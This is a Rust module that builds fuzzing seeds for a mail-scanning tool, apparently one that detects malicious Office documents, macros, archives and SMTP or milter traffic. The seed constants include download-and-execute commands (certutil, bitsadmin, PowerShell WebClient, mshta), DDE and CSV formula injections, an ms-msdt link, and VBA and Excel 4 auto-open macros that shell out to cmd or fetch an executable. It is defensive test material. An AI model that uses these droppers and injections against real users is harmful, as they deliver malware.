//! What fuzzing begins with: the samples, what the generators of the tests make, and dialogs written here.

use std::fs;
use std::path::Path;

use data_encoding::BASE64_MIME_PERMISSIVE;
use image::ImageFormat;
use sekisho::formats::cfb::CompoundFile;
use sekisho::knowledge::Knowledge;
use sekisho::limits::Limits;
use sekisho::part::PartPath;
use sekisho::scan::{Input, Place, Stop, scan};
use sekisho::worker::protocol::{self, Done};

use crate::common::encrypt::{self, Binary, EXCEL};
use crate::common::office::{self, ModuleKind};
use crate::common::ooxml::{self, Member};
use crate::common::pictures as drawings;
use crate::common::wrappings as wrap;
use crate::common::{archives, awkward, excel4, images, layouts, milter, objects, ovba, pdf, rar, samples, sevenz};

/// The seeds of a target.
pub fn of(name: &str) -> Vec<Vec<u8>> {
    match name {
        "arj" => packed("arj"),
        "cab" => packed("cab"),
        "cells" => kinds(CELLS, 4),
        "cfb" => compound_files(),
        "cms" => signed(),
        "compress" => packed("gz").into_iter().chain(streams()).collect(),
        "commands" => kinds(COMMANDS, 4),
        "config" => configurations(),
        "encryption" => encrypted(),
        "entry" => entries(),
        "excel4" => macro_sheets(),
        "file" => named_files(),
        "flat" => kinds(FLAT, 3),
        "header" => messages().into_iter().chain(fields()).collect(),
        "links" => LINKS.iter().map(|link| link.as_bytes().to_vec()).collect(),
        "message" | "mime" => messages(),
        "metafile" => vec![DRAWN.to_vec(), objects_drawn()],
        "lzh" => packed("lzh"),
        "markup" => pages(),
        "milter_codec" | "milter_session" => milter_dialogs(),
        "onenote" => {
            vec![vec![0; 64], b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac\x01".to_vec()]
        }
        "ooxml" => packages(),
        "pdf" => pdf::kinds().into_iter().map(|file| file[9..].to_vec()).collect(),
        "picture" => pictures(),
        "rar" => rars(),
        "rtf" => [&b"1{\\object{\\*\\objdata 0105000002000000}}"[..], b"1{\\field{\\*\\fldinst DDE a b}}"]
            .map(<[u8]>::to_vec)
            .to_vec(),
        "smtp_next_hop" => next_hops(),
        "smtp_session" | "smtp_wire" => smtp_dialogs(),
        "signed_code" => signatures(),
        "smuggling" => smuggled(),
        "strings" => vec![b"\x13\x09\0\x02\0\0\0a\0b\0".to_vec(), DDE_LINK.to_vec()],
        "tnef" => items(),
        "uu" => coded(),
        "sevenz" => sevenz::kinds(),
        "tar" => packed("tar"),
        "vba_code" => SOURCES.iter().map(|source| source.as_bytes().to_vec()).collect(),
        "vba_project" => projects(),
        "worker" => reports(),
        "image" => images(),
        "zip" => archives(),
        _ => Vec::new(),
    }
}

/// Texts behind the octet of their kind, by turns.
fn kinds(texts: &[&str], count: u8) -> Vec<Vec<u8>> {
    (0..count).cycle().zip(texts).map(|(kind, text)| [&[kind], text.as_bytes()].concat()).collect()
}

/// As it is, for `cmd`, for PowerShell, for PowerShell in Base64.
const COMMANDS: &[&str] = &[
    "mshta \"http://203.0.113.9/a\" & rundll32 a.dll,b",
    "set a=p^o&&set b=wer&&call %a%%b:~0,2%shell -w 1 & for %i in (a b) do echo !%i! | cmd",
    "IEX ('{1}{0}' -f 'b','a').Replace('a',[char]65) -join ('x'*2) -bxor 3",
    "(New-Object Net.WebClient).DownloadFile('http://203.0.113.9/a','a.exe');Start-Process a.exe",
    "certutil -urlcache -f http://203.0.113.9/a a.exe & bitsadmin /transfer a http://203.0.113.9/b c.dll",
    "for /f \"tokens=1,2\" %a in ('echo x y') do (set c=%a%b) & if not defined d (echo 1) else echo 2",
    "$a=@(1,2);[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YQ=='))[0..1]",
    "[IO.Compression.DeflateStream][IO.MemoryStream]",
];
/// CSV, SYLK, a query, a page of cells.
const CELLS: &[&str] = &[
    "a,b\n=cmd|'/c calc'!A1,\"=1+1\"\n",
    "X1;Y1;K0;E=MSEXCEL|'x'!A1\nE\n",
    "http://203.0.113.9/a?[\"x\"]\nSelection=1\n",
    "=cmd|' /c x'!A</td></tr></table></html>",
];
/// Word 2003, a package in one file, a web archive.
const FLAT: &[&str] = &[
    "<w:docSuppData><w:binData w:name=\"editdata.mso\">QWN0aXZlTWltZQ==</w:binData></w:docSuppData></w:wordDocument>",
    "<pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>0M8R4KGxGuE=</pkg:binaryData></pkg:part></pkg:package>",
    "Content-Location: editdata.mso\nContent-Transfer-Encoding: base64\n\nQWN0aXZlTWltZQ==\n--b--\n",
];
/// Targets and fields.
const LINKS: &[&str] = &[
    "http://203.0.113.9/a.dotm",
    "\\\\203.0.113.9@SSL@8080\\DavWWWRoot\\a",
    "mhtml:http://a.example/x!x-usc:http://b.example/y",
    "ms-msdt:/id PCWDiagnostic /param \"x\"",
    "INCLUDETEXT \"http://203.0.113.9/a\" \\* MERGEFORMAT",
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k x\"",
    "file:///C:/Users/a/AppData/%52oaming/x.dot",
];
/// A page as it may be, and archives for the other forms.
fn smuggled() -> Vec<Vec<u8>> {
    let archive = layouts::zip(8, "a.txt", &[b'a'; 200]);
    let page = b"\0\x55\"UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAAFAAAAYS50eHQ=\"+\n\"AAAA\"; [80,75,3,4] \\x50\\x4b %50%4b 0x50,0x4b".to_vec();
    [vec![page], [1, 2, 61].map(|kind| [&[kind], &archive[..]].concat()).to_vec()].concat()
}

/// Records of text: wide, narrow, small, the end.
const DRAWN: &[u8] = b"\x01aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\x04\0\0\x02bcde";
/// A supporting book that is a link by DDE.
const DDE_LINK: &[u8] = b"\xe8\x02\x14\x01\0\x03\0\0\0c\0m\0d\0\x01\0\0\0x\0";

/// A record of drawn text as programs write it.
fn objects_drawn() -> Vec<u8> {
    let mut record = vec![0; 36];
    record.extend([2_u32, 76, 0, 0, 0, 0, 0, 0].map(u32::to_le_bytes).concat());
    [&[1], record.as_slice(), b"E\0n\0"].concat()
}

/// The signature that the tests have, whole and cut.
fn signatures() -> Vec<Vec<u8>> {
    const SIGNATURE: &str = include_str!("../common/signature.base64");
    let whole = BASE64_MIME_PERMISSIVE.decode(SIGNATURE.as_bytes()).unwrap();
    let half = whole[..whole.len() / 2].to_vec();
    vec![whole, half]
}

/// Pictures of each kind as they are, and in streams of documents.
fn pictures() -> Vec<Vec<u8>> {
    let page = image::imageops::thumbnail(&drawings::page(1), 64, 48);
    let kinds = [ImageFormat::Png, ImageFormat::Jpeg, ImageFormat::Bmp];
    let files = kinds.map(|kind| drawings::encoded(&page, kind));
    let stream = [&[1, 0x80, 0x7A, 0x1F, 0xF0, 0, 9, 0, 0][..], &[7; 17], &files[2][14..]].concat();
    files.iter().map(|file| [&[0], &file[..]].concat()).chain([stream]).collect()
}

/// Archives of RAR behind their signature, which tells the kind.
fn rars() -> Vec<Vec<u8>> {
    let small = rar::known::archives().into_iter().map(|(_, archive)| archive).filter(|archive| archive.len() < 2000);
    let stored = [rar::stored4("a.txt", b"text"), rar::stored5("a.txt", b"text")];
    let behind = |archive: Vec<u8>| match archive.strip_prefix(b"Rar!\x1a\x07\x01\0") {
        Some(five) => [&[0], five].concat(),
        None => [&[1], archive.get(7..).unwrap_or_default()].concat(),
    };
    small.chain(stored).map(behind).collect()
}

/// Outlook's containers, behind their signature and key.
fn items() -> Vec<Vec<u8>> {
    let text =
        [wrap::property(0x1E, 0x1000, b"a\0"), wrap::property(0x102, 0x1009, &wrap::rtf_compressed(b"{\\rtf1 a}"))];
    let nested = wrap::tnef("a.js", b"WScript.Echo(1)", wrap::Place::Property, &[]);
    [
        wrap::tnef("a.txt", b"text", wrap::Place::Attribute, &text),
        wrap::tnef("Forwarded", &nested, wrap::Place::Object, &[]),
        nested,
    ]
    .map(|item| item[6..].to_vec())
    .to_vec()
}

/// Encoded files in texts.
fn coded() -> Vec<Vec<u8>> {
    let file = b"WScript.Echo(1)";
    let mut texts: Vec<Vec<u8>> =
        [wrap::uuencoded, wrap::yenc, wrap::binhex].iter().map(|encode| encode("a.js", file)).collect();
    texts.push(b"begin-base64 644 a.js\nV1NjcmlwdA==\n====\n".to_vec());
    texts.push(wrap::armoured(&wrap::literal("a.js", file)));
    texts.push(wrap::mbox(&[b"Subject: a\n\na\n".to_vec(), b"Subject: b\n\nb\n".to_vec()]));
    texts
}

/// Signed and encrypted content, and packets.
fn signed() -> Vec<Vec<u8>> {
    let cms = [wrap::signed(b"Content-Type: text/plain\r\n\r\na", true), wrap::detached(), wrap::enveloped()];
    let identifier = b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07";
    let behind = cms.iter().filter_map(|file| {
        let at = memchr::memmem::find(file, identifier)?;
        Some(file[at + identifier.len()..].to_vec())
    });
    let packets = [wrap::compressed(1, &wrap::literal("a", b"text")), wrap::pgp_encrypted()];
    behind.chain(packets.iter().map(|packets| [&[0][..], packets].concat())).collect()
}

/// Archives whose names end so.
fn packed(suffix: &str) -> Vec<Vec<u8>> {
    let all = archives::all("a.txt", b"A text of some, some, some length.");
    all.into_iter().filter(|(name, _)| name.ends_with(suffix)).map(|(_, bytes)| bytes).collect()
}

/// Small streams of the methods that the tests have no packer for.
fn streams() -> Vec<Vec<u8>> {
    const LZMA: &[u8] = b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff\0\x24\x19\x49\x98\x6f\x16\x02\x8c\xe8\xe6\x5b\xb1\x47\xc6\xce\xb7\x63\xff\xff\x3c\xac\0\0";
    // A raw block behind a frame to be skipped.
    const ZSTD: &[u8] = b"\x50\x2a\x4d\x18\x02\0\0\0ab\x28\xb5\x2f\xfd\x20\x05\x29\0\0hello";
    const BZIP2: &[u8] = b"BZh9\x17\x72\x45\x38\x50\x90\0\0\0\0";
    [LZMA, ZSTD, BZIP2, b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4\x46"].map(<[u8]>::to_vec).to_vec()
}

/// Macros in every form.
fn macro_sheets() -> Vec<Vec<u8>> {
    const LINES: &[&str] = &[
        "EXEC(CHAR(99)&\"alc\")\nHALT()",
        "FOR(\"i\",1,3)\nSET.VALUE(R1C2,R1C2&i)\nNEXT()\nIF(GET.WORKSPACE(19),GOTO(R1C1))",
        "FORMULA(\"=EXEC(R1C2)\",R3C1)\nFOR.CELL(\"c\",R1C1:R2C2)\nWHILE(c<2)\nNEXT()\nNEXT()",
        "REGISTER(\"a\",\"b\",\"c\",\"d\")\nd(1)\nIF(1=2)\nELSE()\nEND.IF()\nRUN(R1C1)",
        "DEFINE.NAME(\"x\",\"=R1C1\")\nEVALUATE(MID(\"1+2\",1,3))\nINDIRECT(ADDRESS(1,2))\nOFFSET(R1C1,1,1)",
    ];
    let book = excel4::book(&["=EXEC(\"calc\"&CHAR(46))", "=GOTO(A1)", "=SUM(Sheet1!B2:C3)", "=HALT()"]);
    let lines = LINES.iter().map(|lines| [&[2][..], lines.as_bytes()].concat());
    let stream = |version| [vec![0], book.stream(version)].concat();
    let mut seeds: Vec<Vec<u8>> = lines.collect();
    seeds.push([vec![1], book.sylk()].concat());
    seeds.extend([stream(excel4::Version::Biff8), stream(excel4::Version::Biff5)]);
    seeds.extend([2, 3, 4].map(|generation| [vec![0], excel4::bare(generation, "calc")].concat()));
    let styled = excel4::Book { look: 2, ..book };
    seeds.push([vec![0], styled.stream(excel4::Version::Biff8)].concat());
    seeds
}

/// What a worker says of each sample, and where it was.
fn reports() -> Vec<Vec<u8>> {
    let messages = samples::all().into_iter().map(|sample| sample.message);
    let mut reports: Vec<Vec<u8>> = messages
        .filter_map(|message| {
            let (limits, knowledge) = (Limits::default(), Knowledge::default());
            let report = scan(Input::message(message), &limits, &knowledge, &Stop::default());
            serde_json::to_vec(&Done { report, resident: 1, enclosures: Vec::new(), told: Vec::new() }).ok()
        })
        .collect();
    let place = Place { part: PartPath::root().child(1), name: "a.doc".to_owned(), format: "cfb".to_owned() };
    reports.extend(protocol::note(&place).map(|note| note.to_vec()));
    reports
}

/// The messages of the samples, and one of each awkward kind.
fn messages() -> Vec<Vec<u8>> {
    let mut messages: Vec<Vec<u8>> = samples::all().into_iter().map(|sample| sample.message).collect();
    messages.extend(awkward::table().into_iter().map(|case| case.raw));
    messages
        .push(b"X-Sekisho-Verdict: clean\r\nSubject: =?utf-8?q?a?=\r\n b\r\nx-SEKISHO-id : 1\r\n\r\nbody\r\n".to_vec());
    messages.push(b"Received: a\r\nReceived: b\r\nMessage-ID: <1@x>\r\nFrom: A <a@example.org>, b@x\r\n\r\n".to_vec());
    messages
}

/// The files in the samples, as they are attached.
fn attachments() -> Vec<Vec<u8>> {
    let mut files = Vec::new();
    for sample in samples::all() {
        let text = String::from_utf8_lossy(&sample.message).into_owned();
        for part in text.split("Content-Transfer-Encoding: base64\r\n\r\n").skip(1) {
            let coded = part.split("\r\n--").next().unwrap_or_default();
            files.extend(BASE64_MIME_PERMISSIVE.decode(coded.as_bytes()));
        }
    }
    files
}

fn compound_files() -> Vec<Vec<u8>> {
    let modules = [("ThisDocument", SOURCES[0], ModuleKind::Document), ("Module1", SOURCES[1], ModuleKind::Standard)];
    vec![
        office::doc("Please enable content."),
        office::xls(&["a", "b"]),
        office::vba_project(&modules),
        office::doc_with_macros("text", &modules[..1]),
        office::xls_with_macros(&["a"], &modules[1..]),
        objects::old_slide(2, "calc", "http://example.org/", true),
        office::Compound::new()
            .stream("/\u{1}Ole10Native", b"\x20\0\0\0\x02\0a.exe\0a.exe\0\0\0\x03\0\x06\0\0\0a.exe\0\x04\0\0\0MZ\0\0")
            .finish(),
        office::Compound::version_4()
            .stream("/EncryptionInfo", &[4, 0, 4, 0])
            .stream("/EncryptedPackage", &[7; 64])
            .finish(),
        wrap::msg("a.txt", b"text", 0),
        wrap::msg("a.txt", b"text", 2),
    ]
}

/// The streams of encrypted documents, which the target puts together again.
fn encrypted() -> Vec<Vec<u8>> {
    const NAMES: [&str; 8] = [
        "EncryptionInfo",
        "EncryptedPackage",
        "WordDocument",
        "1Table",
        "Workbook",
        "Book",
        "PowerPoint Document",
        "Current User",
    ];
    let package = ooxml::zip(&[Member { name: "a.js", bytes: b"WScript.Echo(1)".to_vec() }]);
    let mut files = vec![
        encrypt::container(&encrypt::agile_info(EXCEL, 10), &encrypt::agile_package(&package)),
        encrypt::standard(&package, EXCEL),
        encrypt::ppt(&[b"\0\0\xA0\x0F\x04\0\0\0a\0b\0".to_vec(), vec![0; 20]], EXCEL),
    ];
    for how in Binary::ALL {
        files.extend([encrypt::xls(&office::xls(&["a"]), how, EXCEL), encrypt::doc(&office::doc("a"), how, EXCEL)]);
    }
    let streams = |file: &Vec<u8>| {
        let file = CompoundFile::open(file);
        let streams = (0_u8..).zip(NAMES).filter_map(|(kind, name)| {
            let mut content = file.read(file.stream(None, name)?, 0xFFFF).into_owned();
            // Without the zeros that make them longer than what stands in the mini stream.
            content.truncate(content.iter().rposition(|octet| *octet != 0).map_or(0, |last| last + 1));
            Some([&[kind][..], &(content.len() as u16).to_le_bytes(), &content].concat())
        });
        streams.collect::<Vec<_>>().concat()
    };
    files.iter().map(streams).collect()
}

fn archives() -> Vec<Vec<u8>> {
    let member = |name: &'static str, bytes: &[u8]| Member { name, bytes: bytes.to_vec() };
    let inner = ooxml::zip(&[member("a.js", b"WScript.Echo(1)"), member("b/c.txt", b"text")]);
    // What is stored by zlib is Deflate64, too; 98 has a model of 1 MiB.
    let methods =
        [0, 8, 9, 12, 14, 93, 95, 98].map(|method| layouts::zip(method, "a.txt", b"a text, a text and a text"));
    let mut seeds = methods.to_vec();
    seeds.extend([
        ooxml::zip(&[]),
        ooxml::zip(&[member("inner.zip", &inner), member("eicar.com", &samples::eicar())]),
        ooxml::word(&["text"], None),
        samples::macro_document(),
        ooxml::workbook(&["a"], Some(office::vba_project(&[("Module1", SOURCES[1], ModuleKind::Standard)]))),
        inner,
    ]);
    seeds
}

fn named_files() -> Vec<Vec<u8>> {
    let names = ["a.docm", "a.pdf.exe", "\u{202e}cod.exe", "見積書.xlsm", "a.doc.zip", "a.html"];
    let files = attachments().into_iter().chain(compound_files()).chain(archives()).chain(pages());
    let mut files: Vec<Vec<u8>> =
        files.zip(names.iter().cycle()).map(|(file, name)| [name.as_bytes(), b"\n", &file].concat()).collect();
    files.extend(
        [
            &b"a\nRar!\x1a\x07\x01\0"[..],
            b"a\n7z\xbc\xaf\x27\x1c",
            b"a.js\nvar a",
            b"a.iqy\nWEB\n1\nhttp://example.org/a\n",
            b"a.xls\n\x09\0\x04\0\x02\0\x40\0\x06\0\x01\0a",
            b"a.swf\nCWS\x0a\0\x10\0\0\x78\x9c",
            b"a.xls\n<html><td>=cmd|'/c a'!A0</td></html>",
            b"a\nMZ",
            b"a\n%PDF-1.7",
            b"a\n{\\rtf1",
        ]
        .map(<[u8]>::to_vec),
    );
    files
}

/// Octets of a record: its kind, its content, two NULs.
fn record(kind: u8, content: &[u8]) -> Vec<u8> {
    [&[kind], content, &[0, 0]].concat()
}

fn packages() -> Vec<Vec<u8>> {
    const TYPES: &[u8] = br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#;
    const RELATIONS: &[u8] = br#"<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
    const OUTSIDE: &[u8] = br#"<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.org/a.dotm" TargetMode="External"/></Relationships>"#;
    const TEXT: &[u8] = br#"<w:document><w:body><w:p><w:r><w:t>Enable &amp;content</w:t></w:r><w:instrText> DDEAUTO c:\\a "b" </w:instrText></w:p></w:body></w:document>"#;
    const SHEET: &[u8] = br#"<workbook><sheets><sheet name="a" sheetId="1" state="veryHidden" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">a!$A$1</definedName></definedNames></workbook>"#;
    const SLIDE: &[u8] = br#"<p:sld><a:hlinkMouseOver r:id="r" action="ppaction://program"/></p:sld>"#;
    const LINK: &[u8] = br#"<Relationships><Relationship Id="r" Type="x/hyperlink" Target="cmd%20/c%20a" TargetMode="External"/></Relationships>"#;
    const CONTROL: &[u8] = br#"<ax:ocx ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}"><ax:ocxPr ax:name="Movie" ax:value="http://example.org/"/></ax:ocx>"#;
    const LOOKS: &[u8] = br#"<styleSheet><fonts><font><color rgb="FFFFFFFF"/></font></fonts><cellXfs><xf fontId="0"/></cellXfs></styleSheet>"#;
    vec![
        [record(0, TYPES), record(1, RELATIONS), record(2, TEXT), record(3, OUTSIDE)].concat(),
        [
            record(0, TYPES),
            record(1, RELATIONS),
            record(2, TEXT),
            record(6, OUTSIDE),
            record(4, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        ]
        .concat(),
        [record(0, TYPES), record(8, SHEET), record(9, OUTSIDE), record(10, b"<sst><si><t>a</t></si></sst>")].concat(),
        [record(12, b"<macrosheet><f>EXEC(\"calc\")</f></macrosheet>"), record(13, OUTSIDE)].concat(),
        [record(16, SLIDE), record(17, LINK)].concat(),
        [record(18, CONTROL), record(19, &objects::film()), record(20, LOOKS)].concat(),
    ]
}

const SOURCES: [&str; 9] = [
    "Private Sub Document_Open()\r\n    Dim a As String, b(2)\r\n    a = \"cmd\" & Chr(32) & StrReverse(\"c/\")\r\n    Shell a, vbHide\r\nEnd Sub\r\n",
    "Sub Hello(x, Optional y = 3)\nFor i = 1 To 10 Step 2\nIf i > x Then s = s & Mid(\"abcdef\", i, 1) Else GoTo ende\nNext i\nende:\nMsgBox s\nEnd Sub\n",
    "Declare PtrSafe Function u Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\nSub AutoOpen()\nu 0, \"http://example.org/a.exe\", Environ(\"TEMP\") & \"\\a.exe\", 0, 0\nEnd Sub",
    "Sub Workbook_Open()\nWith CreateObject(\"MSXML2.XMLHTTP\")\n.Open \"GET\", \"http://example.org\", False\n.Send\nEnd With\nEnd Sub\0Function f(a): f = Replace(Join(Split(a, \"x\"), \"\"), \"q\", Hex(255)): End Function",
    "Const A = 3.5e2, B = &HFF&, C = #1/1/2020#\nSub t()\nSelect Case A\nCase 1 To 3: x = A ^ B \\ C Mod 7\nCase Else\nDo While x < 10: x = x + 1: Loop\nEnd Select\nEnd Sub",
    "Function d(s)\nFor i = 1 To Len(s) Step 2\nd = d & Chr(CLng(\"&H\" & Mid$(s, i, 2)) Xor 7)\nNext\nEnd Function\nSub Auto_Open()\nGetObject(d(\"7069\")).Create _\n  d(\"636d64\"), Null\nEnd Sub",
    "#If VBA7 Then\nSub a(): Application.Run \"b\": End Sub\n#End If\nSub b()\nCallByName c, \"Sh\" & \"ell\", 1, \"calc\"\nOpen \"a.bat\" For Output As #1\nPrint #1, \"echo\"\nClose #1\nEnd Sub",
    "Attribute VB_Name = \"x\"\nAttribute VB_Base = \"0{FCFB3D2A-A0FA-1068-A738-08002B3371B5}\"\nPublic Property Let p(v): Set o = New Scripting.FileSystemObject: o.CreateTextFile(v).Write v: End Property",
    "Sub Array_()\nb = Array(104, 105)\nFor Each c In b\ns = s + ChrW(c - 1)\nNext c\nReDim Preserve q(UBound(b))\nWhile s <> \"\": s = Left(s, Len(s) - 1): Wend\nExecute s\nEnd Sub",
];

fn projects() -> Vec<Vec<u8>> {
    let listed = [
        (b"Module1".to_vec(), "Module1", ModuleKind::Standard),
        (b"ThisDocument".to_vec(), "ThisDocument", ModuleKind::Document),
    ];
    let dir = ovba::dir(1252, &listed, 0);
    let names = [&b"\xCC\x61\xFF\xFF\x00\x00\x01"[..], b"Shell\0x"].concat();
    let source = |n: usize| ovba::stored_source("Module1", SOURCES[n], ModuleKind::Standard).into_bytes();
    vec![
        [
            record(8, &dir.iter().copied().map(|octet| if octet == 0 { 1 } else { octet }).collect::<Vec<u8>>()),
            record(9, &source(0)),
        ]
        .concat(),
        [record(0, &ovba::compress(&dir)), record(9, &source(1)), record(10, &source(2)), record(3, &names)].concat(),
        [record(15, &source(0)), record(4, b"Module=Module1\r\n"), record(5, &[7; 20])].concat(),
        [record(1, &ovba::compress(&source(3))), record(6, b"cmd /c calc")].concat(),
        ovba::compress(SOURCES[5].as_bytes()),
    ]
}

fn pages() -> Vec<Vec<u8>> {
    let pages = [
        "<html><head><title>a</title><style>b{}</style></head><body><p class=x>Please press &quot;Enable Content&#34;</p><script>var a='<';</script><!-- c --></body></html>",
        "<?xml version=\"1.0\"?><a:b xmlns:a='x'><a:c d=\"&lt;&#x41;\"/><![CDATA[e<f]]></a:b>",
        "The password is: Tokyo2026\nパスワード：「abc-123」\r\n解凍パスワードは別途お送りします。",
        "Open the attachment. Password - 4711 <br> コンテンツの有効化 をクリックしてください",
        "a\u{202e}b\u{200b}c &nbsp;&unknown; <a href=http://example.org/?q=1&amp;b>link</a> <img src=\"cid:1\" alt=\"2\">",
    ];
    pages.iter().map(|page| page.as_bytes().to_vec()).collect()
}

fn fields() -> Vec<Vec<u8>> {
    let values = [
        "attachment; filename=\"a.doc\"",
        "attachment; filename*0*=utf-8''%e8%a6%8b; filename*1=b.doc; name=\"=?utf-8?B?6KaL?=\"",
        "multipart/mixed; boundary=\"b 1\"; (comment (nested)) charset=us-ascii",
        "attachment; filename==?ISO-2022-JP?B?GyRCOCtAUT1xGyhC?=.xls; filename=b",
        "text/plain; name=a b c.doc; name=\"a\\\"b\r\n c\"",
        "iso-2022-jp\n\u{1b}$B8+@Q=q\u{1b}(B",
        "=?utf-8?q?a_=3d?= =?shift_jis?B?jKk=?= =?x?x?x?=",
        "base64",
    ];
    values.iter().map(|value| format!("Content-Disposition: {value}\r\n\r\n").into_bytes()).collect()
}

fn milter_dialogs() -> Vec<Vec<u8>> {
    let frame = milter::frame;
    let negotiation = |version: u32, actions: u32, steps: u32| {
        frame(b'O', [version, actions, steps].map(u32::to_be_bytes).as_flattened())
    };
    let client = [
        frame(b'D', b"Cj\0mx.example\0{client_addr}\x00192.0.2.1\0"),
        frame(b'C', b"client.example\x004\x00\x19192.0.2.1\0"),
        frame(b'H', b"client.example\0"),
    ]
    .concat();
    let letter = |name: &[u8], value: &[u8]| {
        [
            frame(b'D', b"M{auth_authen}\0user\0i\0QUEUE\0"),
            frame(b'M', b"<a@example.org>\0SIZE=10\0"),
            frame(b'R', b"<b@example.jp>\0NOTIFY=NEVER\0"),
            frame(b'R', b"<c@example.jp>\0"),
            frame(b'T', b""),
            frame(b'L', &[name, b"\0", value, b"\0"].concat()),
            frame(b'L', b"Received\0 from x\n\tby y\0"),
            frame(b'N', b""),
            frame(b'B', b"text\r\n.\r\nmore\r\n"),
            frame(b'E', b""),
        ]
        .concat()
    };
    let all = (0x1ff, 0x1f_ffff);
    let answers = |octets: &[u8]| octets.iter().copied().cycle().take(64).collect::<Vec<u8>>();
    vec![
        [
            negotiation(6, all.0, all.1),
            client.clone(),
            letter(b"Subject", b" a"),
            frame(b'Q', b""),
            answers(&[0, 8, 24]),
        ]
        .concat(),
        [
            negotiation(2, 0, 0),
            client.clone(),
            letter(b"Subject", b"a\n b"),
            letter(b"X-Sekisho-Id", b"1"),
            answers(&[255, 3, 4]),
        ]
        .concat(),
        [
            negotiation(6, all.0, 0x400),
            letter(b"a", b""),
            frame(b'A', b""),
            frame(b'K', b""),
            client.clone(),
            letter(b"b", b"c"),
            answers(&[5, 1, 2]),
        ]
        .concat(),
        [
            negotiation(4, 0x3f, 0x7f),
            client,
            frame(b'U', b"XYZ\0"),
            frame(b'M', b"<>\0"),
            frame(b'E', b"all"),
            answers(&[13, 61]),
        ]
        .concat(),
    ]
}

fn smtp_dialogs() -> Vec<Vec<u8>> {
    let dialogs = [
        "EHLO client.example\r\nXFORWARD NAME=a.example ADDR=192.0.2.1\r\nMAIL FROM:<a@example.org> SIZE=20 BODY=8BITMIME\r\nRCPT TO:<b@example.jp>\r\nRCPT TO:<c@example.jp> NOTIFY=NEVER\r\nDATA\r\nSubject: a\r\n\r\n..\r\nb\r\n.\r\nQUIT\r\n",
        "LHLO client.example\r\nMAIL FROM:<>\r\nRCPT TO:<b@example.jp>\r\nRCPT TO:<c@example.jp>\r\nDATA\r\na\r\n.\r\nRSET\r\nMAIL FROM:<\"a b\"@example.org> RET=HDRS ENVID=x+3D\r\nRCPT TO:<x@y> ORCPT=rfc822;x@y\r\nDATA\r\nb\n.\nc\r\n.\r\n",
        "HELO a\r\nNOOP\r\nVRFY b\r\nHELP\r\nEXPN c\r\nSTARTTLS\r\nEHLO b\r\nXCLIENT ADDR=IPV6:2001:db8::1 NAME=[UNAVAILABLE] LOGIN=x\r\nEHLO c\r\nMAIL FROM:<a@b> SMTPUTF8 AUTH=<>\r\nDATA\r\nRCPT TO:<d>\r\nQUIT\r\n",
        "250-mx.example\r\n250-SIZE 1000\r\n250-8BITMIME\r\n250-XFORWARD NAME ADDR\r\n250 DSN\r\n354 go\r\n550 5.1.1 no\r\n421 4.4.2 bye\r\n",
    ];
    let tails: [&[u8]; 4] = [&[0, 1, 2, 3], &[1, 0, 0, 130], &[51, 2, 7], &[72, 5, 6]];
    let with = |(dialog, tail): (&&str, &&[u8])| {
        dialog.bytes().chain(tail.iter().copied().cycle().take(64)).collect::<Vec<u8>>()
    };
    dialogs.iter().zip(&tails).map(with).collect()
}

fn next_hops() -> Vec<Vec<u8>> {
    let script = |kind: u8, replies: &[&str]| replies.iter().flat_map(|reply| record(kind, reply.as_bytes())).collect();
    let hello = "250-mx\r\n250-SIZE 0\r\n250-XFORWARD NAME ADDR\r\n250 PIPELINING\r\n";
    let ok = "250 2.0.0 Ok\r\n";
    vec![
        script(0, &["220 mx ESMTP\r\n", hello, ok, ok, ok, ok, "354 go\r\n", ok, ok, "221 bye\r\n"]),
        script(1, &["220 mx LMTP\r\n", hello, ok, ok, ok, "550 5.1.1 no\r\n", "354 go\r\n", "450 4.2.0 later\r\n", ok]),
        script(1, &["220 mx LMTP\r\n", hello, ok, ok, ok, ok, "354 go\r\n", "450 4.2.0 later\r\n250 2.0.0 Ok\r\n", ok]),
        script(1, &["220 mx\r\n", "500 what\r\n", "250 mx\r\n", ok, ok, ok, "354 go\r\n", "250 a\r\n250 b\r\n", ok]),
        script(0, &["220 mx\r\n", "502 what\r\n", ok, "421 4.4.2 bye\r\n"]),
        script(0, &["220-a\r\n220 b\r\n", "250 a\r\n250 b\r\n"]),
    ]
}

fn configurations() -> Vec<Vec<u8>> {
    let shipped = fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("config/sekisho.toml")).unwrap();
    let uncommented: String = String::from_utf8_lossy(&shipped)
        .lines()
        .map(|line| line.strip_prefix('#').filter(|rest| !rest.starts_with(' ')).unwrap_or(line).to_owned() + "\n")
        .collect();
    let rules = [
        "[[rule]]\nname = \"a\"\nwhen.finding = [\"vba-*\", \"eicar-test-file\"]\nwhen.verdict = \"malicious\"\nnot.sender = [\"*@partner.example\"]\naction = \"quarantine\"\n",
        "[[rule]]\nname = \"b\"\nwhen.attachment_name = [\"*.exe\"]\nwhen.attachment_type = [\"exe\", \"ooxml-*\"]\naction = \"reject\"\nreply = \"554 5.7.1 no {id}\"\n[[rule]]\nname = \"c\"\naction = \"tag\"\nadd_header = { \"X-A\" = \"{verdict}\" }\nsubject_prefix = \"[x] \"\n",
        "[limits]\nmax_files = 10\nmax_scan_size = \"1 MiB\"\n[http]\nlisten = \"[::1]:9125\"\n[mail]\nlocal_networks = [\"10.0.0.0/8\"]\n",
